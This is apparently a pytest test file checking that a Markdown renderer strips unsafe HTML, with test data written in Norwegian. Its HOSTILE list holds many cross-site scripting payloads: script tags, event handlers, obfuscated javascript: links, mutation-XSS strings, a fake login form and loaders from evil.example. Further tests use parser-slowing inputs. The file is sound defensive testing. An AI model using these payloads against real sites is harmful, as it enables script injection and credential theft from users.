"""Contributed Markdown becomes HTML in which nothing can run, load or restyle."""

from __future__ import annotations

import re

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from idebank.render import render_markdown

TAGS = {
    *(
        "h2",
        "h3",
        "h4",
        "p",
        "ul",
        "ol",
        "li",
        "blockquote",
        "pre",
        "code",
        "em",
        "strong",
        "del",
        "a",
        "br",
        "hr",
    ),
    *("br", "hr", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"href", "title", "rel", "start"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    "![bilde](https://evil.example/pixel.gif)",
    "![bilde](data:image/svg+xml;base64,PHN2Zz4=)",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[lenke](javascript:alert(1))",
    "[lenke](JaVaScRiPt:alert(1))",
    "[lenke](java\tscript:alert(1))",
    "[lenke](&#106;avascript:alert(1))",
    "[lenke](vbscript:msgbox)",
    "[lenke](data:text/html,<script>alert(1)</script>)",
    "[lenke](blob:https://evil.example/1)",
    "[lenke](file:///etc/passwd)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">lenke</a>',
    '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" target="_blank">lenke</a>',
    "# Tittel {: onclick=alert(1) }",
    "[lenke](https://ok.example){: onclick=alert(1) }",
    "<style>body { display: none }</style>",
    '<p style="position:fixed;inset:0">dekker alt</p>',
    '<div class="demo" id="main">etterligner</div>',
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=passord><button>Logg inn</button></form>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<video src=x autoplay></video><audio src=x></audio>",
    "</main></body></html>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "[x]: javascript:alert(1)\n\n[lenke][x]",
    '[lenke](https://ok.example "\\"onmouseover=alert(1) x=\\"")',
    "<b onmouseover=alert(1)>fet</b>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
]


def _problems(html: str) -> list[str]:
    """Return what is in some HTML besides plain text, allowed tags and links to the web."""
    found = []
    for tag in BeautifulSoup(html, "html.parser").select("*"):
        if tag.name not in TAGS:
            found.append(tag.name)
        found += [f"{tag.name} {name}" for name in tag.attrs if name not in ATTRIBUTES]
        href = str(tag.get("href", "https:"))
        if not re.match(r"(https?|mailto|tel):|[^:]*$", href):
            found.append(href)
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile(text: str) -> None:
    """Nothing is left but plain text, allowed tags and links to the web."""
    assert _problems(render_markdown(text)) == []


@given(st.text(alphabet="<>\"'&/=ascriptonealhjvdu:()[]!`#{}*-_ \n\t|0") | st.text())
def test_any_text(text: str) -> None:
    """Whatever the text, nothing else is left."""
    assert _problems(render_markdown(text)) == []


@pytest.mark.parametrize(
    ("text", "literal"),
    [
        ("{{ 7*7 }}", "{{ 7*7 }}"),
        ("{% raw %}", "{% raw %}"),
        ('--8<-- "mkdocs.yml"', '--8&lt;-- "mkdocs.yml"'),
        ("{: onclick=x }", "{: onclick=x }"),
        (":material-bank:", ":material-bank:"),
        ("==merket==", "==merket=="),
    ],
)
def test_literal(text: str, literal: str) -> None:
    """What means something to templates or to other kinds of Markdown stands as it was written."""
    assert render_markdown(text) == f"<p>{literal}</p>\n"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**fet** og *kursiv*", "<p><strong>fet</strong> og <em>kursiv</em></p>\n"),
        ("~~borte~~", "<p><del>borte</del></p>\n"),
        ("## Bakgrunn", "<h2>Bakgrunn</h2>\n"),
        ("3. tre", '<ol start="3">\n<li>tre</li>\n</ol>\n'),
        ("> sitat", "<blockquote>\n<p>sitat</p>\n</blockquote>\n"),
        ("<a@b.example>", '<p><a href="mailto:a@b.example" rel="noopener">a@b.example</a></p>\n'),
        (
            '[oss](https://x.example/ "Om")',
            '<p><a href="https://x.example/" title="Om" rel="noopener">oss</a></p>\n',
        ),
        ("5 < 6 & 7 > 6", "<p>5 &lt; 6 &amp; 7 &gt; 6</p>\n"),
        ("", ""),
    ],
)
def test_markdown(text: str, html: str) -> None:
    """What contributors are told they can write, they can."""
    assert html == render_markdown(text)


def test_table() -> None:
    """A table has its rows and columns, and no style."""
    html = render_markdown("| Dag | Rett |\n| --- | ---: |\n| Mandag | Grøt |\n")

    assert "style" not in html
    assert "align" not in html
    assert [cell.text for cell in BeautifulSoup(html, "html.parser").find_all(["th", "td"])] == [
        "Dag",
        "Rett",
        "Mandag",
        "Grøt",
    ]


def test_text_of_html_is_kept() -> None:
    """The text between tags that are taken away stays."""
    assert render_markdown("<div>Viktig <b>tekst</b></div>").strip() == "Viktig tekst"


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000,
        "![" * 20_000,
        "[a](" * 10_000,
        "*" * 20_000,
        "**a_" * 10_000,
        "`" * 20_000,
        "<!--" * 10_000,
        "<![CDATA[" * 5_000,
        "<!-- x -- >",
        "<" * 20_000,
        "<a " * 10_000,
        "> " * 5_000 + "a",
        ">" * 100_000,
        "<ul><li></b>" * 10_000,
        "<blockquote></b><table><td></blockquote>" * 5_000,
        "- " * 2_000 + "a",
        "|" * 20_000,
        "a | b\n--- | ---\n" + "x | y\n" * 1_000,
        "&" * 20_000,
        "\n" * 50_000,
        "<b>" * 5_000,
        "~" * 20_000,
        "http://" * 5_000,
        "a@" * 10_000,
        "w" * 200_000,
    ],
    ids=lambda text: repr(text[:9]),
)
def test_pathological(text: str) -> None:
    """Text that is made to be slow is done in time, and is as harmless as any other."""
    assert _problems(render_markdown(text)) == []


def test_too_deep() -> None:
    """Text nested deeper than anyone means is shown as it was written, so that nothing is lost."""
    assert render_markdown(f"{'>' * 501} <b>") == f"<pre>{'&gt;' * 501} &lt;b&gt;</pre>"


def test_deep() -> None:
    """A long text with much in it is not taken for a deep one."""
    html = render_markdown("> *sitat*<br>\n\n" * 2_000)

    assert html.count("<em>") == 2_000
